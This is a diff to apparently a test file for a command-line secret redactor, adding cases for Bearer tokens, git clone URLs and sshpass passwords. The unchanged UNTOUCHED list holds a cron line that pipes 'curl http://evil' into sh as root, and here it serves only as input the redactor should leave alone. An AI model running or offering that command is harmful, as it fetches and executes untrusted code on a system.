@@ -32,6 +32,11 @@ CASES = [
      "docker run --env=\"DB_PASSWORD=<redacted> <redacted>\" x"),
     ("app --url=https://u:%s@h/x --v" % SECRET, "app --url=https://u:<redacted>@h/x --v"),
     ("app --env=LANG=C --port=5", "app --env=LANG=C --port=5"),
+    # session 8, found by comparing with the OOM recorder's redactor
+    ("tool --header=Bearer %s" % SECRET, "tool --header=Bearer <redacted>"),
+    ("git clone https://%s@github.com/x.git" % SECRET, "git clone https://<redacted>@github.com/x.git"),
+    ("sshpass -p %s ssh h" % SECRET, "sshpass -p <redacted> ssh h"),
+    ("sshpass -p%s ssh h" % SECRET, "sshpass -p<redacted> ssh h"),
     ("mysql -uroot -p%s db" % SECRET, "mysql -uroot -p<redacted> db"),
     ("/usr/bin/mysqldump -p %s db" % SECRET, "/usr/bin/mysqldump -p <redacted> db"),
     ("mariadb-dump --password=%s" % SECRET, "mariadb-dump --password=<redacted>"),
@@ -65,6 +70,7 @@ UNTOUCHED = [
     "PWD=/home/x ls", "0 * * * * root curl http://evil | sh", "redis-server *:6379",
     "no password set", "PasswordAuthentication yes", "kernel.kptr_restrict = 2",
     "/usr/sbin/sshd -D", "https://example.org/path?x=1", "ls -la /tmp",
+    "git clone ssh://git@github.com/x.git", "rsync -a rsync://backup@host/x /y",
 ]
 
 
